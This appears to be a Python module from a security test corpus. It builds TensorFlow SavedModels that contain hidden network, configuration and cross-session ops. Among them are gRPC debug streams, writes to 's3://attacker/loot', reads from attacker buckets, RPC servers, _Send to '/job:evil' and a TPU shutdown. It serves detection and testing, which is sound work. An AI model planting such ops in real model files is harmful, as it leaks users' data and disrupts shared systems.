"""SavedModels that talk to others, configure the process, or reach into other models (reference 2)."""

from __future__ import annotations

import tensorflow as tf

from .build import Func, by_hand, const, definition, dense, export_v1, node, raw, v1
from .file_writes import _after, _result
from .registry import Place, attack, fires

PORT = 18431
ADDRESS = f"127.0.0.1:{PORT}"


def _talks(id, op, make, about, shows=False, value=ADDRESS, also=(), category="network"):
    def build(place: Place):
        dense(place.path, lambda x, y: {"z": _result(make(y), y)})

    build.__doc__ = about
    attack(
        id,
        "savedmodel",
        category,
        op,
        value,
        also=also,
        fires=fires("call", "connects", str(PORT)) if shows else None,
    )(build)


_talks(
    "sm-debug-identity-grpc",
    "DebugIdentity",
    lambda y: raw.DebugIdentityV2(
        input=y,
        tfdbg_context_id="c",
        op_name="o",
        output_slot=0,
        tensor_debug_mode=2,
        debug_urls=[f"grpc://{ADDRESS}"],
    ),
    "DebugIdentityV2 streams the prediction to an address.",
)
_talks(
    "sm-debug-identity-v1-grpc",
    "DebugIdentity",
    lambda y: raw.DebugIdentity(
        input=y,
        device_name="",
        tensor_name="t:0",
        debug_urls=[f"grpc://{ADDRESS}"],
        gated_grpc=False,
    ),
    "The first form of the same.",
    shows=True,
)
_talks(
    "sm-debug-identity-v3",
    "DebugIdentity",
    lambda y: raw.DebugIdentityV3(
        input=y,
        device_name="",
        tensor_name="t:0",
        io_of_node="",
        is_input=False,
        io_index=-1,
        debug_urls=[f"grpc://{ADDRESS}"],
        gated_grpc=False,
    ),
    "The third form of the same.",
)
_talks(
    "sm-data-service",
    "DataServiceDataset",
    lambda y: _service(),
    "A dataset of a data service at an address.",
    shows=True,
)
_talks(
    "sm-register-dataset",
    "RegisterDataset",
    lambda y: tf.cast(
        tf.strings.length(
            raw.RegisterDatasetV2(
                dataset=tf.data.Dataset.range(3)._variant_tensor,
                address=ADDRESS,
                protocol="grpc",
                external_state_policy=1,
                element_spec="",
                requested_dataset_id="",
                metadata="",
            )
        ),
        tf.float32,
    ),
    "A dataset, program and all, is given to a data service.",
    shows=True,
)
_talks(
    "sm-read-gs",
    "ReadFile",
    lambda y: tf.io.read_file("gs://attacker/model/weights"),
    "ReadFile of a bucket: a beacon.",
    value="gs://attacker",
    also=["file-read"],
)
_talks(
    "sm-read-http",
    "ReadFile",
    lambda y: tf.io.read_file(f"http://{ADDRESS}/x"),
    "ReadFile of a web address.",
    also=["file-read"],
)
_talks(
    "sm-write-s3",
    "WriteFile",
    lambda y: tf.io.write_file("s3://attacker/loot", tf.io.serialize_tensor(y)),
    "The prediction goes to a bucket.",
    value="s3://attacker",
    also=["file-write"],
)
_talks(
    "sm-tfrecord-hdfs",
    "TFRecordDataset",
    lambda y: tf.data.TFRecordDataset("hdfs://attacker:9000/records").reduce(0, lambda a, b: a + 1),
    "Records of another cluster.",
    value="hdfs://attacker",
    also=["file-read"],
)


def _service():
    from tensorflow.python.data.experimental.ops import data_service_ops

    spec = tf.TensorSpec([], tf.int64)
    data = data_service_ops._from_dataset_id(
        "parallel_epochs", f"grpc://{ADDRESS}", "7", element_spec=spec
    )
    return data.take(1).reduce(tf.constant(0, tf.int64), lambda a, b: a + b)


@attack("sm-rpc-client", "savedmodel", "network", ["RpcClient", "RpcCall"], ADDRESS)
def _(place: Place):
    """RpcClient and RpcCall: a call of a function on another machine."""
    nodes = [
        const("address", ADDRESS),
        const("timeout", 1000),
        const("method", "f"),
        node(
            "client",
            "RpcClient",
            ["address", "timeout"],
            shared_name="",
            list_registered_methods=False,
        ),
        node("call", "RpcCall", ["client:0", "method", "x", "timeout"], Tin=[tf.float32]),
        node("done", "RpcGetValue", ["call"], Tout=[tf.float32]),
        node("y", "Identity", ["done"], T=tf.float32),
    ]
    by_hand(place.path, nodes)


@attack("sm-rpc-server", "savedmodel", "network", ["RpcServer"], "0.0.0.0")
def _(place: Place):
    """RpcServer listens on every address and offers functions of the model."""
    nodes = [
        const("address", "0.0.0.0:18431"),
        node("server", "RpcServer", ["address"]),
        node("start", "RpcServerStart", ["server"]),
        node("y", "Identity", ["x", "^start"], T=tf.float32),
    ]
    by_hand(place.path, nodes)


@attack("sm-remote-call", "savedmodel", "network", "RemoteCall", "/job:worker")
def _(place: Place):
    """RemoteCall runs a function on a device of another task."""
    functions = definition(lambda x: tf.identity(x), tf.TensorSpec(None, tf.float32), name="remote")
    nodes = [
        const("target", "/job:worker/replica:0/task:1/device:CPU:0"),
        node(
            "y",
            "RemoteCall",
            ["target", "x"],
            Tin=[tf.float32],
            Tout=[tf.float32],
            f=Func("remote"),
        ),
    ]
    by_hand(place.path, nodes, functions=functions)


@attack("sm-device-other-task", "savedmodel", "network", ["device", "/job:evil"], "/job:evil")
def _(place: Place):
    """A node is placed on a task of another job."""
    by_hand(
        place.path,
        [
            node(
                "y",
                "Identity",
                ["x"],
                T=tf.float32,
                device="/job:evil/replica:0/task:3/device:CPU:0",
            )
        ],
    )


@attack("sm-send-recv", "savedmodel", "network", ["Send", "Recv"], None, also=["hang"])
def _(place: Place):
    """_Send gives the input to whoever asks for that name."""
    send = node(
        "send",
        "_Send",
        ["x"],
        T=tf.float32,
        tensor_name="loot",
        send_device="/job:localhost/replica:0/task:0/device:CPU:0",
        send_device_incarnation=1,
        recv_device="/job:evil/replica:0/task:0/device:CPU:0",
        client_terminated=False,
    )
    by_hand(place.path, [send, node("y", "Identity", ["x", "^send"], T=tf.float32)])


@attack("sm-filesystem-configuration", "savedmodel", "configuration", "FileSystemSetConfiguration")
def _(place: Place):
    """FileSystemSetConfiguration changes where the process finds its files from then on."""

    def make(x, y):
        return {
            "z": _after(
                raw.FileSystemSetConfiguration(scheme="s3", key="endpoint", value=ADDRESS), y
            )
        }

    dense(place.path, make)


@attack(
    "sm-configure-tpu",
    "savedmodel",
    "configuration",
    ["ShutdownDistributedTPU", "ConfigureDistributedTPU"],
)
def _(place: Place):
    """ShutdownDistributedTPU ends the accelerator for everybody."""
    by_hand(
        place.path,
        [
            node("stop", "ShutdownDistributedTPU", []),
            node("y", "Identity", ["x", "^stop"], T=tf.float32),
        ],
    )


@attack("sm-get-session-tensor", "savedmodel", "cross-model", "GetSessionTensor")
def _(place: Place):
    """GetSessionTensor reads what other requests of the session left."""
    by_hand(
        place.path,
        [
            const("handle", "GetSessionHandle;0;/job:localhost"),
            node("y", "GetSessionTensor", ["handle"], dtype=tf.float32),
        ],
    )


@attack("sm-iterator-from-handle", "savedmodel", "cross-model", "IteratorFromStringHandle")
def _(place: Place):
    """IteratorFromStringHandle takes an iterator by the name that a request gives."""

    def build():
        s = v1.placeholder(tf.string, [], "s")
        iterator = raw.IteratorFromStringHandleV2(
            string_handle=s, output_types=[tf.float32], output_shapes=[[]]
        )
        return {"s": s}, {
            "y": raw.IteratorGetNext(
                iterator=iterator, output_types=[tf.float32], output_shapes=[[]]
            )[0]
        }

    export_v1(place.path, build)
